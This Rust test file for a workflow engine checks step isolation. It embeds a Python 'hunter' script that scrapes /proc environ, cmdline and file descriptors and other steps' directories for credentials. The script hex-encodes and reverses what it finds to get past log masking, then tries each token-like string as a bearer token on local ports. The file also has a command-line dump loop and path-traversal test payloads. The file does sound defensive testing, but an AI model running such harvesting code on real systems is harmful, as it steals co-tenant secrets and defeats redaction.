//! The step boundary, attacked: a step that names no secret hunts for every credential the
//! engine, its runners and a concurrent step hold — in its environment, in every
//! `/proc/<pid>/{environ,cmdline}` and open file, in the files it can reach (the other
//! step's workspace, home and temporary directory, the work directories, `/tmp`), and
//! tries to register a runner with everything token-like it read. It runs under `plue run`
//! and under `plue serve` with local runners; the test then looks for each credential —
//! as is, reversed and hex-encoded, so masking cannot hide a find — in everything stored.
//!
//! Positive control: the concurrent step that names the secret sees it (masked in its log).

use crate::support;
use std::process::Command;
use std::time::Duration;

use crate::support::{client, get_json, log_lines, serial, start_run, wait_final, Sandbox};
use serde_json::Value;

/// The hunter. Prints every string it could read, reversed and hex-encoded, so a
/// credential it found survives the runner's masking and shows up in the stored log; then
/// tries every token-like word it saw as a registration token on every local port.
const HUNTER: &str = r#"
import glob, json, os, re, socket, sys, time, urllib.error, urllib.request

time.sleep(float(os.environ.get("HUNT_AFTER", "1")))
found = []
budget = [4_000_000]

def keep(where, data):
    if isinstance(data, bytes):
        data = data.decode("utf-8", "replace")
    if not data or budget[0] <= 0:
        return
    data = data[:budget[0]]
    budget[0] -= len(data)
    found.append((where, data))

def read(path, limit=65536):
    try:
        with open(path, "rb") as f:
            keep(path, f.read(limit))
    except OSError:
        pass

keep("environ", "\n".join(f"{k}={v}" for k, v in os.environ.items()))
for proc in glob.glob("/proc/[0-9]*"):
    for name in ("environ", "cmdline"):
        read(f"{proc}/{name}")
    try:
        for fd in os.listdir(f"{proc}/fd"):
            read(f"{proc}/fd/{fd}", 4096)
    except OSError:
        pass
    try:
        keep(f"{proc}/cwd", os.listdir(f"{proc}/cwd").__repr__())
    except OSError:
        pass

# Another step's attempt directory: guess its name from the visible runner pids.
pids = [p.rsplit("/", 1)[1] for p in glob.glob("/proc/[0-9]*")]
roots = set(glob.glob("/tmp/plue-work-*")) | set(os.environ.get("HUNT_ROOTS", "").split(":")) - {""}
here = os.path.dirname(os.environ.get("PLUE_WORKSPACE", "/nonexistent"))
roots.add(os.path.dirname(here))
for root in roots:
    try:
        keep(root, repr(os.listdir(root)))
    except OSError:
        pass
    for attempt in range(1, 12):
        for pid in pids:
            base = f"{root}/attempt-{attempt}-{pid}"
            if base == here:
                continue
            for leaf in ("workspace/victim.txt", "home/victim.txt", "tmp/victim.txt", "output"):
                read(f"{base}/{leaf}")
for path in glob.glob("/tmp/**", recursive=True)[:5000]:
    if os.path.isfile(path) and not path.startswith(here):
        read(path, 16384)

words = set()
for where, data in found:
    words.update(re.findall(r"[A-Za-z0-9_\-]{16,}", data))
    for start in range(0, len(data), 3000):
        chunk = data[start:start + 3000]
        print(f"{where}: rev={chunk[::-1]!r} hex={chunk.encode().hex()}")

ports = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        for line in open(table).read().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A":
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    except OSError:
        pass
registered = 0
for port in sorted(ports):
    # A port that leaves a request unanswered (another test's listener nobody serves any
    # more) is no engine: one silence and the hunter moves on, as an attacker would.
    silent = False
    for word in sorted(words)[:400]:
        if silent:
            break
        body = json.dumps({"name": "hunter", "labels": {}, "ephemeral": True}).encode()
        request = urllib.request.Request(
            f"http://127.0.0.1:{port}/internal/register", data=body, method="POST",
            headers={"Authorization": f"Bearer {word}", "Content-Type": "application/json"})
        try:
            with urllib.request.urlopen(request, timeout=2) as answer:
                # A runner's session is what a registration gives; any other 200 (some
                # other test's stand-in server that says yes to everything) is not one.
                body = answer.read(65536)
                try:
                    session = json.loads(body).get("session_token")
                except (ValueError, AttributeError):
                    session = None
                if answer.status == 200 and session:
                    registered += 1
                    print(f"registered at port {port} with a word of {len(word)} characters")
        except (TimeoutError, socket.timeout):
            silent = True
        except urllib.error.URLError as error:
            silent = isinstance(error.reason, (TimeoutError, socket.timeout))
        except Exception:
            pass
print(f"hunted {len(found)} sources, {len(words)} words, {len(ports)} ports, registered {registered}")
"#;

/// The victim: names the secret, leaves it in its files and waits while the hunter runs.
const VICTIM: &str = "printf '%s' \"$VICTIM_SECRET\" > victim.txt; \
    printf '%s' \"$VICTIM_SECRET\" > \"$HOME/victim.txt\"; \
    printf '%s' \"$VICTIM_SECRET\" > \"$TMPDIR/victim.txt\"; \
    echo \"seen: $VICTIM_SECRET\"; sleep 5";

const VICTIM_SECRET: &str = "victim-secret-7f3a9c1e5b2d4860";
const CALLER_SECRET_KEY: &str = "engine-secret-key-5d1c8e2f9a7b3046";
const CALLER_ADMIN_TOKEN: &str = "engine-admin-token-0b9e4d7c2a6f1835";
const CALLER_RUNNER_TOKEN: &str = "engine-runner-token-3c8f1a6e9d2b5074";

fn workflow() -> String {
    format!(
        "def workflow():\n    return Plan(name='boundary', triggers=[Trigger.manual()], steps=[\n\
         \x20       Step.bash('victim', {victim:?}, secrets=['VICTIM_SECRET']),\n\
         \x20       Step.bash('hunter', '/usr/bin/python3 hunter.py'),\n\
         \x20   ])\n",
        victim = VICTIM
    )
}

/// Every form in which a found credential could have been stored.
fn forms(secret: &str) -> Vec<String> {
    let reversed: String = secret.chars().rev().collect();
    vec![secret.to_owned(), reversed, hex::encode(secret)]
}

/// Panics naming the first credential found anywhere in `stored`.
fn assert_nothing_found(stored: &str, credentials: &[&str]) {
    for credential in credentials {
        for form in forms(credential) {
            if let Some(at) = stored.find(&form) {
                let line_start = stored[..at].rfind('\n').map_or(0, |i| i + 1);
                let context: String = stored[line_start..].chars().take(300).collect();
                panic!("a step found the credential {credential:?} (as {form:?}): {context}");
            }
        }
    }
}

fn hunted_line(stored: &str) -> &str {
    stored
        .lines()
        .find(|l| l.contains("hunted "))
        .unwrap_or_else(|| panic!("the hunter did not finish:\n{}", tail(stored)))
}

fn tail(text: &str) -> String {
    let lines: Vec<&str> = text.lines().collect();
    lines[lines.len().saturating_sub(40)..].join("\n")
}

#[test]
fn step_cannot_reach_credentials_under_plue_run() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(dir.path().join("w.plue.py"), workflow()).unwrap();
    std::fs::write(dir.path().join("hunter.py"), HUNTER).unwrap();
    let output = Command::new(env!("CARGO_BIN_EXE_plue"))
        .current_dir(dir.path())
        .args([
            "run",
            "w.plue.py",
            "--runners",
            "2",
            "--secret",
            "VICTIM_SECRET",
        ])
        .args(["--summary-json", "summary.json"])
        .env("NO_COLOR", "1")
        .env_remove("PLUE_DATA_DIR")
        .env("VICTIM_SECRET", VICTIM_SECRET)
        .env("PLUE_SECRET_KEY", CALLER_SECRET_KEY)
        .env("PLUE_ADMIN_TOKEN", CALLER_ADMIN_TOKEN)
        .env("PLUE_RUNNER_TOKEN", CALLER_RUNNER_TOKEN)
        .output()
        .expect("plue runs");
    let (stdout, stderr) = (support::stdout(&output), support::stderr(&output));
    assert!(output.status.success(), "{}\n{stderr}", tail(&stdout));
    let hunted = hunted_line(&stdout);
    assert!(hunted.contains("registered 0"), "{hunted}");
    // Positive control: the step that names the secret sees it, masked in its log.
    assert!(stdout.contains("victim | seen: ***"), "{}", tail(&stdout));
    let mut stored = stdout.clone();
    stored.push_str(&stderr);
    // Everything the engine stored: the database and the runner logs.
    for entry in walk(&dir.path().join(".plue")) {
        stored.push_str(&String::from_utf8_lossy(
            &std::fs::read(entry).unwrap_or_default(),
        ));
    }
    assert_nothing_found(
        &stored.replace(&format!("seen: {VICTIM_SECRET}"), "positive control"),
        &[
            VICTIM_SECRET,
            CALLER_SECRET_KEY,
            CALLER_ADMIN_TOKEN,
            CALLER_RUNNER_TOKEN,
        ],
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn step_cannot_reach_credentials_under_plue_serve() {
    let _serial = serial().await;
    let sandbox = Sandbox::new("boundary");
    let workflow_file = sandbox.write("repo/w.plue.py", &workflow());
    sandbox.write("repo/hunter.py", HUNTER);
    // Credentials go the documented way, through the environment: a command line is
    // world-readable in /proc/<pid>/cmdline (an earlier version of this test found its own
    // `--secret NAME=VALUE` there).
    let port = support::free_port();
    let engine = sandbox
        .serve_with_env(
            "engine",
            port,
            &[
                "--runners",
                "2",
                "--data-dir",
                sandbox.path("data").to_str().unwrap(),
                "--secret",
                "VICTIM_SECRET",
            ],
            &[
                ("VICTIM_SECRET", VICTIM_SECRET),
                ("PLUE_RUNNER_TOKEN", support::RUNNER_TOKEN),
            ],
        )
        .await;
    let client = client();
    let run_id = start_run(&client, &engine.url, &workflow_file, &sandbox.path("repo")).await;
    let run = wait_final(&client, &engine.url, run_id, Duration::from_secs(60)).await;
    let victim = log_text(&client, &engine.url, run_id, "victim").await;
    let hunter = log_text(&client, &engine.url, run_id, "hunter").await;
    assert_eq!(run["status"], "succeeded", "{run}\n{}", tail(&hunter));
    assert!(victim.contains("seen: ***"), "{victim}");
    let hunted = hunted_line(&hunter);
    assert!(hunted.contains("registered 0"), "{hunted}");
    let runners = get_json(&client, &format!("{}/api/runners", engine.url)).await;
    assert!(
        !runners.to_string().contains("hunter"),
        "the step registered a runner: {runners}"
    );
    let mut stored = hunter;
    for entry in walk(&sandbox.path("data")) {
        stored.push_str(&String::from_utf8_lossy(
            &std::fs::read(entry).unwrap_or_default(),
        ));
    }
    assert_nothing_found(
        &stored,
        &[
            VICTIM_SECRET,
            support::ADMIN_TOKEN,
            support::RUNNER_TOKEN,
            "secret-key-of-the-test-sandbox",
        ],
    );
}

async fn log_text(client: &reqwest::Client, engine: &str, run_id: i64, step: &str) -> String {
    let lines: Vec<Value> = log_lines(client, engine, run_id, step)
        .await
        .unwrap_or_else(|| panic!("the logs of {step}"));
    lines
        .iter()
        .filter_map(|line| line["text"].as_str())
        .collect::<Vec<_>>()
        .join("\n")
}

fn walk(dir: &std::path::Path) -> Vec<std::path::PathBuf> {
    let mut files = Vec::new();
    let mut pending = vec![dir.to_path_buf()];
    while let Some(dir) = pending.pop() {
        let Ok(entries) = std::fs::read_dir(&dir) else {
            continue;
        };
        for entry in entries.flatten() {
            let path = entry.path();
            if path.is_dir() {
                pending.push(path);
            } else {
                files.push(path);
            }
        }
    }
    files
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn server_side_workflow_files_need_the_admin_token_and_an_allowed_directory() {
    let _serial = serial().await;
    let sandbox = Sandbox::new("local-workflows");
    let allowed = sandbox.write(
        "repo/ok.plue.py",
        "def workflow():\n    return Plan(name='ok', steps=[Step.bash('a', 'true')])\n",
    );
    let outside = tempfile::tempdir().unwrap();
    let outside_file = outside.path().join("evil.plue.py");
    std::fs::write(
        &outside_file,
        "def workflow():\n    return Plan(name='evil', steps=[Step.bash('a', 'true')])\n",
    )
    .unwrap();
    std::os::unix::fs::symlink(outside.path(), sandbox.path("repo/link")).unwrap();
    let port = support::free_port();
    // The harness allows the sandbox directory; this engine allows repo/ too. Everything
    // below escapes both.
    let repo = sandbox.path("repo");
    let engine = sandbox
        .serve(
            "engine",
            port,
            &[
                "--runners",
                "0",
                "--local-workflows",
                repo.to_str().unwrap(),
            ],
        )
        .await;
    let url = format!("{}/api/runs", engine.url);
    let post = |body: Value, token: Option<&str>| {
        let mut request = reqwest::Client::new().post(&url).json(&body);
        if let Some(token) = token {
            request = request.bearer_auth(token);
        }
        async move {
            let response = request.send().await.expect("POST /api/runs");
            (
                response.status().as_u16(),
                response.text().await.unwrap_or_default(),
            )
        }
    };
    let ok = serde_json::json!({"workflow": allowed, "workspace": repo});
    assert_eq!(post(ok.clone(), None).await.0, 401);
    assert_eq!(post(ok.clone(), Some("not-the-admin-token")).await.0, 401);
    let escapes = [
        serde_json::json!({"workflow": outside_file}),
        serde_json::json!({"workflow": repo.join("../../../").join(outside_file.strip_prefix("/").unwrap())}),
        serde_json::json!({"workflow": repo.join("link/evil.plue.py")}),
        serde_json::json!({"workflow": allowed, "workspace": outside.path()}),
        serde_json::json!({"workflow": allowed, "workspace": "/"}),
        serde_json::json!({"workflow": "relative.plue.py"}),
        serde_json::json!({"workflow": repo.join("missing.plue.py")}),
    ];
    for body in escapes {
        let (status, text) = post(body.clone(), Some(support::ADMIN_TOKEN)).await;
        assert_eq!(status, 403, "{body}: {text}");
        assert!(text.contains("--local-workflows"), "{text}");
    }
    let (status, text) = post(ok, Some(support::ADMIN_TOKEN)).await;
    assert_eq!(status, 200, "{text}");
}

#[test]
fn a_credential_on_another_process_command_line_is_invisible_to_steps() {
    // Operators do put tokens on argv (`plue runner --token T`), and /proc/<pid>/cmdline is
    // readable by every user: a root runner's steps get a /proc that shows their own
    // processes only.
    const ON_ARGV: &str = "credential-on-argv-5a1f9e3c7d2b8046";
    let mut bystander = Command::new("bash")
        .args(["-c", "sleep 60", ON_ARGV])
        .spawn()
        .expect("a bystander process");
    let dir = tempfile::tempdir().unwrap();
    let scan =
        "for f in /proc/[0-9]*/cmdline; do tr '\\0' ' ' < $f 2>/dev/null | rev; echo; done; \
                test -r /proc/self/status && echo own-processes-visible";
    let source = format!(
        "def workflow():\n    return Plan(name='argv', steps=[Step.bash('scan', {scan:?})])\n"
    );
    let output = support::plue_run_one(dir.path(), &source)
        .output()
        .expect("plue runs");
    let _ = bystander.kill();
    let _ = bystander.wait();
    let stdout = support::stdout(&output);
    assert!(output.status.success(), "{stdout}");
    assert!(stdout.contains("own-processes-visible"), "{stdout}");
    assert_nothing_found(&stdout, &[ON_ARGV]);
}
